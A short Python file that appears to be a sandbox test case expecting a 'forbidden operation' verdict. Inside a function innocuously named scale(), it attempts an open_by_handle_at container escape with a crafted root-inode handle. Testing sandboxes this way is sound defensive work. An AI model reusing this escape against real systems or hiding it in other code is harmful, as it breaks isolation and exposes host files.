# verdict: forbidden operation
# levels: namespaces landlock compute
"""Open a file by its number on the disk, past every folder."""

import ctypes

libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(bytes([8, 0, 0, 0, 1, 0, 0, 0, 2]), 136)


def scale(x, factor=2):
    for descriptor in range(64):
        if libc.open_by_handle_at(descriptor, handle, 0) >= 0:
            print("ESCAPED: the root of the disk", flush=True)
    return x * factor
